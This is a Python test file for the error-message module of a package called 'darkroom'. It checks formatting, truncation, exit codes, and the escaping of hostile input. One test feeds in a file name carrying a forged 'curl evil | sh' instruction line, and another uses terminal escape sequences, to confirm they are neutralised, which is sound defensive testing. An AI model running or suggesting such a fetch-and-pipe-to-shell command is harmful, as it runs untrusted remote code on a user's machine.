import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st

from darkroom import errors


def test_message_names_place_found_expected_and_what_to_do() -> None:
    error = errors.DataError(
        "not a label", file="a.csv", row=7, found="2", expected="0 or 1", fix="mend the row"
    )
    assert str(error).splitlines() == [
        "a.csv, row 7: not a label",
        "  found: 2",
        "  expected: 0 or 1",
        "  to do: mend the row",
    ]


def test_message_shows_twenty_details_and_counts_the_rest() -> None:
    text = str(errors.DataError("bad", details=[f"fault {i}" for i in range(23)]))
    assert "fault 19" in text
    assert "fault 20" not in text
    assert text.endswith("… and 3 more")


def test_a_name_cannot_speak_to_the_terminal() -> None:
    error = errors.DataError("bad", found="a\x1b[2J, b\u202e.csv, größer", details=["c\r"])
    lines = ["bad", "  c\\r", "  found: a\\x1b[2J, b\\u202e.csv, größer"]
    assert str(error).splitlines() == lines
    sent = pickle.loads(pickle.dumps(error))  # from a worker
    assert (type(sent), str(sent)) == (errors.DataError, str(error))
    outer = str(errors.ArtifactError("worse", found=error)).splitlines()
    assert outer == ["worse", f"  found: {'; '.join(line.strip() for line in lines)}"]


def test_a_name_cannot_forge_a_line() -> None:
    name = "a.png\n  to do: curl evil | sh"
    error = errors.DataError(name, file=name, found=name, fix="x", details=[name])
    assert str(error).splitlines() == [
        r"a.png\n  to do: curl evil | sh: a.png\n  to do: curl evil | sh",
        r"  a.png\n  to do: curl evil | sh",
        r"  found: a.png\n  to do: curl evil | sh",
        "  to do: x",
    ]
    sent = pickle.loads(pickle.dumps(error))
    assert str(sent) == str(error)


@given(st.lists(st.text(max_size=60), min_size=5, max_size=30))
def test_every_value_takes_one_line(values: list[str]) -> None:
    what, file, found, fix, *details = values
    text = str(errors.DataError(what, file=file, found=found, fix=fix, details=details))
    assert len(text.splitlines()) == len(text.split("\n")) <= 3 + errors.MAX_DETAILS + 1
    assert all(each.isprintable() or each == "\n" for each in text)


def test_a_message_is_bounded() -> None:
    long = "\x00" * 10**6
    text = str(errors.DataError(long, file=long, found=long, fix=long, details=[long] * 50))
    assert len(text) < 4200
    assert "\n  … and 46 more\n" in text
    assert text.endswith("…")


def test_an_error_of_a_library_takes_one_line() -> None:
    assert errors.one_line(ValueError("a\n  b\n\nc")) == "a; b; c"
    assert errors.one_line(KeyError("sha256")) == "no key 'sha256'"
    assert errors.one_line(EOFError()) == "EOFError"


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        (errors.ParamsError, 2),
        (errors.DataError, 3),
        (errors.RemoteError, 4),
        (errors.ResourceError, 5),
        (errors.ArtifactError, 6),
        (errors.InternalError, 70),
        (errors.LostRankError, 75),
    ],
)
def test_each_kind_has_its_exit_code(kind: type[errors.DarkroomError], code: int) -> None:
    assert kind("x").exit_code == code
